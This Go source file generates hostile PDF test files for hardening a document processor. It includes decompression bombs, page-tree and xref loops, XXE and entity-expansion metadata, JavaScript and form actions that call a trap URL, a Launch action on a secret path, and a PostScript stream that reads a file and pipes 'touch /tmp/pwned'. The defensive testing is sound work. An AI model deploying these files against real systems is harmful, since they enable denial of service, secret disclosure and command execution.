package hostile

import (
	"bytes"
	"compress/lzw"
	"fmt"
	"strings"
)

// document writes a PDF of numbered objects, the first of which is the catalog.
// trailer is added to the entries of the trailer.
func document(trailer string, objects ...string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xE2\xE3\xCF\xD3\n")
	at := make([]int, len(objects))
	for i, o := range objects {
		at[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	start := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for _, o := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, trailer, start)
	return b.Bytes()
}

func stream(dict string, content []byte) string {
	return fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", dict, len(content), content)
}

const font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"

var shown = []byte("BT /F1 18 Tf 72 700 Td (" + Marker + ") Tj ET")

// onePage is a PDF that shows the marker; the entries are added to the catalog
// and the page, the objects have the numbers from 6 on.
func onePage(catalog, page string, more ...string) []byte {
	return document("", append([]string{
		"<</Type/Catalog/Pages 2 0 R" + catalog + ">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>>>/Contents 4 0 R" + page + ">>", stream("", shown), font}, more...)...)
}

// painted is a PDF of one page with such a content stream and such resources.
func painted(resources, content string, more ...string) []byte {
	return document("", append([]string{
		"<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>",
		"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 5 0 R>>" + resources + ">>/Contents 4 0 R>>", content, font}, more...)...)
}

// many has n pages; flat says whether they hang on one node or each a level deeper.
func many(n int, flat bool) []byte {
	objects := []string{"<</Type/Catalog/Pages 2 0 R>>", "", stream("", shown), font}
	if flat {
		var kids strings.Builder
		for i := range n {
			fmt.Fprintf(&kids, "%d 0 R ", i+5)
			objects = append(objects, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 4 0 R>>>>/Contents 3 0 R>>")
		}
		objects[1] = fmt.Sprintf("<</Type/Pages/Kids[%s]/Count %d>>", kids.String(), n)
		return document("", objects...)
	}
	objects[1] = "<</Type/Pages/Kids[5 0 R]/Count 1>>"
	for i := range n {
		objects = append(objects, fmt.Sprintf("<</Type/Pages/Parent %d 0 R/Kids[%d 0 R]/Count 1>>", max(2, i+4), i+6))
	}
	objects = append(objects, fmt.Sprintf("<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 4 0 R>>>>/Contents 3 0 R>>", n+4))
	return document("", objects...)
}

// looped replaces the last cross-reference by one whose /Prev is itself.
func looped() []byte {
	b := onePage("", "")
	at := bytes.LastIndex(b, []byte("xref\n0"))
	return bytes.Replace(b, []byte("/Root 1 0 R"), fmt.Appendf(nil, "/Prev %d/Root 1 0 R", at), 1)
}

func pdfs(t Trap) []File {
	bomb := func(size int64) []byte { return deflated([]byte("0 0 m 9 9 l S "), size) }
	image := func(filter string, w, h, bits int, data func() []byte) func() []byte {
		return func() []byte {
			return painted("/XObject<</I 6 0 R>>", stream("", append([]byte("q 500 0 0 500 40 40 cm /I Do Q "), shown...)),
				stream(fmt.Sprintf("/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/DeviceGray/Filter/%s", w, h, bits, filter), data()))
		}
	}
	nest := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
	return []File{
		{Name: "flate-content-800mib.pdf", Heavy: true, Content: func() []byte { return painted("", stream("/Filter/FlateDecode", bomb(800<<20))) }},
		{Name: "flate-content-40mib.pdf", Heavy: true, Content: func() []byte { return painted("", stream("/Filter/FlateDecode", bomb(40<<20))) }},
		{Name: "flate-filters-x3.pdf", Content: func() []byte {
			return painted("", stream("/Filter[/FlateDecode/FlateDecode/FlateDecode]", deflated(deflated(deflated([]byte(" "), 1<<30), 1<<20), 1<<10)))
		}},
		{Name: "flate-metadata-1gib.pdf", Heavy: true, Content: func() []byte {
			return onePage("/Metadata 6 0 R", "", stream("/Type/Metadata/Subtype/XML/Filter/FlateDecode", deflated([]byte(" "), 1<<30)))
		}},
		{Name: "flate-attachment-2gib.pdf", Heavy: true, Content: func() []byte {
			return onePage("/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>", "", "<</Type/Filespec/F(a.txt)/UF(a.txt)/EF<</F 7 0 R>>>>",
				stream("/Type/EmbeddedFile/Filter/FlateDecode", deflated([]byte{'a'}, 2<<30)))
		}},
		{Name: "image-60000.pdf", Heavy: true, Content: image("FlateDecode", 60000, 60000, 1, func() []byte { return deflated([]byte{0xAA}, 60000/8*60000) })},
		{Name: "image-lies.pdf", Content: image("FlateDecode", 100000, 100000, 8, func() []byte { return deflated([]byte{0}, 100) })},
		{Name: "image-jbig2.pdf", Content: image("JBIG2Decode", 60000, 60000, 1, func() []byte {
			// one page information segment and a generic region of that size, without data
			return []byte("\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13\x00\x00\xEA\x60\x00\x00\xEA\x60\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00" +
				"\x00\x00\x00\x01\x26\x00\x01\x00\x00\x00\x1A\x00\x00\xEA\x60\x00\x00\xEA\x60\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\xFF\xFD\xFF\x02\xFE\xFE\xFE\xFE")
		})},
		{Name: "image-jpx.pdf", Content: image("JPXDecode", 60000, 60000, 8, func() []byte {
			// a codestream that announces 60000 × 60000 samples in tiles of one pixel
			return []byte("\xFF\x4F\xFF\x51\x00\x29\x00\x00\x00\x00\xEA\x60\x00\x00\xEA\x60\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x07\x01\x01" +
				"\xFF\x52\x00\x0C\x00\x00\x00\x01\x00\x05\x04\x04\x00\x01\xFF\x5C\x00\x13\x40\x40\x48\x48\x50\x48\x48\x50\x48\x48\x50\x48\x48\x50\x48\x48\x50\xFF\x90\x00\x0A\x00\x00\x00\x00\x00\x00\x00\x01\xFF\x93\xFF\xD9")
		})},
		{Name: "image-lzw.pdf", Content: image("LZWDecode", 20000, 20000, 8, func() []byte {
			var b bytes.Buffer
			w := lzw.NewWriter(&b, lzw.MSB, 8)
			w.Write(make([]byte, 32<<20))
			w.Close()
			return b.Bytes()
		})},
		{Name: "pages-100000.pdf", Heavy: true, Content: func() []byte { return many(100_000, true) }},
		{Name: "pages-5000.pdf", Heavy: true, Content: func() []byte { return many(5000, true) }, Shows: true},
		{Name: "tree-10000-deep.pdf", Content: func() []byte { return many(10_000, false) }},
		{Name: "tree-200000-deep.pdf", Content: func() []byte { return many(200_000, false) }, Heavy: true},
		{Name: "tree-loop.pdf", Content: func() []byte {
			return document("", "<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 9/Parent 3 0 R>>", "<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>")
		}},
		{Name: "tree-count-lies.pdf", Content: func() []byte {
			return bytes.Replace(onePage("", ""), []byte("/Count 1>"), []byte("/Count 2147483647>"), 1)
		}},
		{Name: "outline-loop.pdf", Content: func() []byte {
			return onePage("/Outlines 6 0 R", "", "<</Type/Outlines/First 7 0 R/Last 7 0 R/Count 1>>", "<</Title(a)/Parent 6 0 R/Next 7 0 R/First 6 0 R/Last 7 0 R>>")
		}, Shows: true},
		{Name: "font-loop.pdf", Content: func() []byte {
			return painted("/XObject<</X 6 0 R>>/Pattern<</P 7 0 R>>", stream("", []byte("/X Do "+string(shown))),
				stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>/Font<</F 8 0 R>>>>", []byte("/X Do /X Do BT /F 9 Tf (a) Tj ET")),
				stream("/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep 0.0001/YStep 0.0001/Resources<</Pattern<</P 7 0 R>>>>", []byte("/Pattern cs /P scn 0 0 9 9 re f")),
				"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[1]/Resources<</Font<</F 8 0 R>>>>>>")
		}},
		{Name: "form-2-to-the-30.pdf", Content: func() []byte {
			more := []string{}
			for i := range 30 {
				more = append(more, stream(fmt.Sprintf("/Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</X %d 0 R>>>>", i+7), []byte("/X Do /X Do")))
			}
			return painted("/XObject<</X 6 0 R>>", stream("", []byte("/X Do "+string(shown))), append(more, stream("/Type/XObject/Subtype/Form/BBox[0 0 600 900]", []byte("0 0 m 9 9 l S")))...)
		}},
		{Name: "pattern-fine.pdf", Content: func() []byte {
			return painted("/Pattern<</P 6 0 R>>", stream("", []byte("/Pattern cs /P scn 0 0 595 842 re f "+string(shown))),
				stream("/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 0.001 0.001]/XStep 0.001/YStep 0.001/Resources<<>>", []byte("0 0 1 1 re f")))
		}},
		{Name: "function-endless.pdf", Content: func() []byte {
			return painted("/Shading<</S 6 0 R>>", stream("", []byte("/S sh "+string(shown))),
				"<</ShadingType 1/ColorSpace/DeviceRGB/Domain[0 1 0 1]/Matrix[600 0 0 900 0 0]/Function 7 0 R>>",
				stream("/FunctionType 4/Domain[0 1 0 1]/Range[0 1 0 1 0 1]", []byte("{ "+strings.Repeat("dup mul sin cos ", 20000)+" dup }")))
		}},
		{Name: "xref-prev-loop.pdf", Content: looped, Shows: true},
		{Name: "xref-nonsense.pdf", Content: func() []byte {
			b := onePage("", "")
			return append(b[:bytes.LastIndex(b, []byte("xref\n0"))], "xref\n0 99999999\nabcdefghij 00000 n \ntrailer\n<</Root 1 0 R/Size -5/Prev 7>>\nstartxref\n999999999999\n%%EOF\n"...)
		}, Shows: true},
		{Name: "xref-missing.pdf", Content: func() []byte { b := onePage("", ""); return b[:bytes.LastIndex(b, []byte("xref\n0"))] }},
		{Name: "objstm-itself.pdf", Content: func() []byte {
			return onePage("", "/Annots 9 0 R", stream("/Type/ObjStm/N 1000000000/First 10/Extends 6 0 R", []byte("9 0 6 0    [6 0 R]")))
		}},
		{Name: "stream-endless.pdf", Content: func() []byte {
			b := onePage("", "")
			return bytes.Replace(b, []byte("endstream"), []byte("endstreaX"), 1)
		}},
		{Name: "length-lies.pdf", Content: func() []byte {
			return bytes.Replace(onePage("", ""), fmt.Appendf(nil, "/Length %d", len(shown)), []byte("/Length 99999999999"), 1)
		}},
		{Name: "length-itself.pdf", Content: func() []byte {
			return bytes.Replace(onePage("", ""), fmt.Appendf(nil, "/Length %d", len(shown)), []byte("/Length 4 0 R"), 1)
		}},
		{Name: "arrays-1m.pdf", Content: func() []byte { return onePage("/X "+nest(1_000_000), "") }},
		{Name: "mediabox-giant.pdf", Content: func() []byte {
			return bytes.Replace(onePage("", ""), []byte("[0 0 595 842]"), []byte("[0 0 2000000000 2000000000]"), 1)
		}},
		{Name: "mediabox-14400.pdf", Content: func() []byte {
			return bytes.Replace(onePage("", ""), []byte("[0 0 595 842]"), []byte("[0 0 14400 14400]/UserUnit 75000"), 1)
		}},
		{Name: "mediabox-nothing.pdf", Content: func() []byte {
			return bytes.Replace(onePage("", ""), []byte("[0 0 595 842]"), []byte("[0 0 0 0]"), 1)
		}},
		{Name: "object-loop.pdf", Content: func() []byte { return onePage("/Names 6 0 R", "", "7 0 R", "6 0 R") }},
		{Name: "attachments-300.pdf", Heavy: true, Holds: 300, Content: func() []byte {
			names, more := "", []string{}
			for i := range 300 {
				names += fmt.Sprintf("(%d) %d 0 R ", i, 6+2*i)
				more = append(more, fmt.Sprintf("<</Type/Filespec/F(a%d.txt)/UF(a%d.txt)/EF<</F %d 0 R>>>>", i, i, 7+2*i), stream("/Type/EmbeddedFile", []byte("x")))
			}
			return onePage("/Names<</EmbeddedFiles<</Names["+names+"]>>>>", "", more...)
		}},
		{Name: "xfa.pdf", Content: func() []byte {
			return onePage("/AcroForm<</Fields[]/XFA 6 0 R>>", "", stream("", []byte(xxe("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'>&x;</xdp:xdp>", t))))
		}, Shows: true},
		{Name: "xmp-xxe.pdf", Content: func() []byte {
			return onePage("/Metadata 6 0 R", "", stream("/Type/Metadata/Subtype/XML", []byte(xxe(
				`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/" pdfaid:part="2" pdfaid:conformance="B" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&x;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>`, t))))
		}, Shows: true},
		{Name: "xmp-entities.pdf", Content: func() []byte {
			return onePage("/Metadata 6 0 R", "", stream("/Type/Metadata/Subtype/XML", []byte(lol+`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="&a9;"/></rdf:RDF></x:xmpmeta>`)))
		}, Shows: true},
		{Name: "reaches-out.pdf", Content: func() []byte {
			return onePage("/OpenAction<</S/JavaScript/JS(app.launchURL\\('"+t.URL+"/pdf-js'\\); this.submitForm\\('"+t.URL+"/pdf-form'\\))>>/AA<</WC<</S/URI/URI("+t.URL+"/pdf-wc)>>>>",
				"/AA<</O<</S/Launch/F("+t.Secret+")>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/GoToR/F<</FS/URL/F("+t.URL+"/pdf-gotor)>>/D[0/Fit]>>>>]/Group 6 0 R",
				"<</S/SubmitForm/F<</FS/URL/F("+t.URL+"/pdf-submit)>>>>")
		}, Shows: true},
		{Name: "external-stream.pdf", Content: func() []byte {
			return painted("/XObject<</I 6 0 R/J 7 0 R>>", stream("", append([]byte("q 200 0 0 200 0 0 cm /I Do /J Do Q "), shown...)),
				stream("/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray/F("+t.Secret+")/FFilter/ASCIIHexDecode", nil),
				stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F<</FS/URL/F("+t.URL+"/pdf-ref)>>/Page 0>>/F<</FS/URL/F("+t.URL+"/pdf-stream)>>", nil))
		}},
		{Name: "postscript.pdf", Content: func() []byte {
			return painted("/XObject<</X 6 0 R>>", stream("", append([]byte("/X Do "), shown...)),
				stream("/Type/XObject/Subtype/PS", []byte("("+t.Secret+") (r) file 999 string readstring pop show (%pipe%touch /tmp/pwned) (w) file")))
		}},
	}
}
